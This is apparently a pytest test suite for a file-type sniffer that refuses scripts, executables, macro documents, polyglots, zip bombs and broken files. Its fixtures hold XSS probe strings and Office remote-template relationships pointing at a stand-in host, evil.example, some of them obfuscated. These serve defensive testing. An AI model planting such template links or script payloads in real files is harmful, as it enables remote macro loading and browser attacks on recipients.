"""The content decides what a file is, and nothing is unpacked for long to find out."""

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st
from services.contracts.files import MEDIA_TYPES
from transcript_service.files.refused import RefusedFile
from transcript_service.files.sniff import DOCX, ODT, XLSX, sniff


@pytest.fixture
def look(tmp_path):
    """Return what a content is taken for: a type or a code."""

    def look(content):
        path = tmp_path / "received"
        path.write_bytes(content)
        try:
            return sniff(path)
        except RefusedFile as refused:
            return refused.code.value

    return look


TYPE, BROKEN = "file_type_not_allowed", "file_broken"
REMOTE = (
    '<Relationships><Relationship Type="http://x/attachedTemplate" '
    'Target="https://evil.example/x.dotm" TargetMode="External"/></Relationships>'
)

TURNED = (
    '<Relationships><Relationship TargetMode = "External" Target="https://evil.example/x.dotm" '
    'Type="http://x/attachedTemplate"/></Relationships>'
)


def test_each_type_that_may_be_sent_is_recognised(look, samples):
    found = {
        look(samples.picture("JPEG")),
        look(samples.picture("PNG")),
        look(samples.picture("GIF")),
        look(samples.picture("WEBP")),
        look(samples.pdf()),
        look("Hei på deg\r\n\tÆØÅ\n".encode()),
        look(samples.openxml("docx")),
        look(samples.openxml("xlsx")),
        look(samples.opendocument()),
    }

    assert found == set(MEDIA_TYPES)


@pytest.mark.parametrize("code", ["utf-8", "utf-8-sig", "utf-16", "cp1252"])
def test_a_text_may_be_in_any_code_that_texts_have_here(look, code):
    assert look("Blåbær – «ja takk»".encode(code)) == "text/plain"


@pytest.mark.parametrize(
    "content",
    [
        b"<!DOCTYPE html><script>alert(1)</script>",
        b"\n  <html><body>",
        b"\xef\xbb\xbf<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        b"<?xml version='1.0'?><svg/>",
        "<script>".encode("utf-16"),
        b"{\\rtf1 hei}",
        b"MZ\x90\x00\x03\x00\x00\x00",
        b"\x7fELF\x02\x01\x01\x00",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(100),  # Word 97, and anything with a password
        b"Hei\x00",
        b"Hei \x1b]0;x\x07",
        b"\x00\x00\x00\x18ftypheic",
        b"Rar!\x1a\x07\x00",
        b"\xff\xfeH",
    ],
)
def test_pages_programs_and_what_nobody_here_can_read_are_refused(look, content):
    assert look(content) == TYPE


def test_documents_with_macros_are_refused(look, samples):
    assert look(samples.openxml(**{"word/vbaProject.bin": b"x"})) == TYPE
    assert look(samples.openxml("xlsx", **{"xl/VBAPROJECT.BIN": b"x"})) == TYPE
    assert look(samples.openxml(**{"word/activeX/activeX1.bin": b"x"})) == TYPE
    assert look(samples.opendocument(**{"Basic/Standard/Module1.xml": b"x"})) == TYPE
    assert look(samples.opendocument(**{"Scripts/python/x.py": b"x"})) == TYPE


def test_a_document_that_fetches_its_macros_from_elsewhere_is_refused(look, samples):
    parts = {"word/_rels/settings.xml.rels": REMOTE}
    turned = {"word/_rels/settings.xml.rels": TURNED}
    link = {"word/_rels/document.xml.rels": REMOTE.replace("attachedTemplate", "hyperlink")}

    assert look(samples.openxml(**parts)) == TYPE
    assert look(samples.openxml(**turned)) == TYPE
    assert look(samples.openxml(**link)) == DOCX


@pytest.mark.parametrize(
    ("was", "is_", "found"),
    [
        ("https://evil.example/x.dotm", "file:///C:\\Maler\\Brev.dotx", DOCX),
        ("https://evil.example/x.dotm", "file://evil.example/x.dotm", TYPE),
        ("https://evil.example/x.dotm", "\\\\evil.example\\x.dotm", TYPE),
        ("attachedTemplate", "attached&#84;emplate", TYPE),
        ('Target="https', 'Tar="https', TYPE),
    ],
)
def test_a_template_of_the_writer_s_own_disk_is_no_harm_and_a_hidden_one_is_found(
    look, samples, was, is_, found
):
    links = REMOTE.replace(was, is_)
    assert links != REMOTE

    assert look(samples.openxml(**{"word/_rels/settings.xml.rels": links})) == found


def test_links_in_a_code_that_hides_them_are_refused(look, samples):
    assert look(samples.openxml(**{"a.rels": REMOTE.encode("utf-16")})) == TYPE


def test_a_document_with_two_parts_of_one_name_is_broken(look, samples):
    assert look(samples.openxml(**{"WORD/document.xml": "<w>Noe annet</w>"})) == BROKEN


def test_no_text_takes_long_to_look_at(look, samples):
    began = time.monotonic()
    words = b"attachedTemplate TargetMode=External " * 25_000

    assert look(samples.openxml(**{"a.rels": words})) == TYPE
    assert look(samples.openxml(**{"a.rels": b"attachedTemplate " * 60_000})) == DOCX
    assert look(samples.pdf(b"/Encrypt " * 500_000 + b" " * 2_000_000)) == "application/pdf"
    assert look(b"\n" * 9_000_000 + b"Hei") == "text/plain"
    assert time.monotonic() - began < 10


def test_a_zip_that_is_no_document_is_refused(look, samples):
    assert look(samples.archive({"a.txt": "Hei"})) == TYPE
    assert (
        look(samples.archive({"[Content_Types].xml": "<Types/>", "word/document.xml": ""})) == TYPE
    )
    assert look(samples.archive({"mimetype": "application/zip", "content.xml": ""})) == TYPE
    assert look(b"PK\x03\x04" + bytes(100)) == BROKEN


def test_a_document_that_is_cut_off_or_altered_is_broken(look, samples):
    docx = samples.openxml(**{"word/media/a.bin": bytes(range(256)) * 40})
    at = docx.index(b"word/media/a.bin") + 40

    assert look(docx[: len(docx) // 2]) == BROKEN
    assert look(docx[:at] + bytes([docx[at] ^ 0xFF]) + docx[at + 1 :]) == BROKEN


def test_a_bomb_is_refused_before_it_goes_off(look, samples):
    zeros = bytes(50 * 1024 * 1024)
    bomb = samples.openxml(**{f"word/media/{n}.bin": zeros for n in range(5)})
    began = time.monotonic()

    assert look(bomb) == BROKEN
    assert time.monotonic() - began < 10
    assert look(samples.openxml(**{f"word/{n}.xml": b"" for n in range(4_100)})) == BROKEN
    assert look(samples.openxml(**{"a.rels": bytes(2 * 1024 * 1024)})) == BROKEN


def test_a_pdf_that_nobody_could_read_is_broken(look, samples):
    assert look(samples.pdf()[:-8]) == BROKEN
    assert look(samples.pdf(b"/Encrypt 5 0 R")) == BROKEN
    assert look(samples.pdf(b"/EncryptMetadata true")) == "application/pdf"


def test_one_type_behind_another_is_what_its_first_byte_says_or_nothing(look, samples):
    """A polyglot is taken for its first type alone, and is given out as that to be saved."""
    page = b"<html><script>alert(1)</script></html>"

    assert look(samples.picture("GIF") + page) == "image/gif"
    assert look(page + samples.pdf()) == TYPE
    assert look(samples.pdf(page)) == "application/pdf"
    assert look(b"\x00" + samples.pdf()) == TYPE


@given(
    st.binary(min_size=1, max_size=400), st.sampled_from([b"", b"%PDF-", b"PK\x03\x04", b"GIF89a"])
)
def test_whatever_comes_is_a_known_type_or_refused(tmp_path_factory, content, begins):
    path = tmp_path_factory.getbasetemp() / "anything"
    path.write_bytes(begins + content)
    try:
        found = sniff(path)
    except RefusedFile as refused:
        found = refused.code.value

    assert found in {*MEDIA_TYPES, TYPE, BROKEN}


@given(st.data())
def test_a_document_with_any_byte_altered_is_refused_or_still_that_document(
    tmp_path_factory, samples, data
):
    docx = samples.openxml()
    at = data.draw(st.integers(0, len(docx) - 1))
    altered = docx[:at] + bytes([data.draw(st.integers(0, 255))]) + docx[at + 1 :]
    path = tmp_path_factory.getbasetemp() / "altered"
    path.write_bytes(altered)
    try:
        found = sniff(path)
    except RefusedFile as refused:
        found = refused.code.value

    assert found in {DOCX, TYPE, BROKEN}
    assert {XLSX, ODT}.isdisjoint({found})
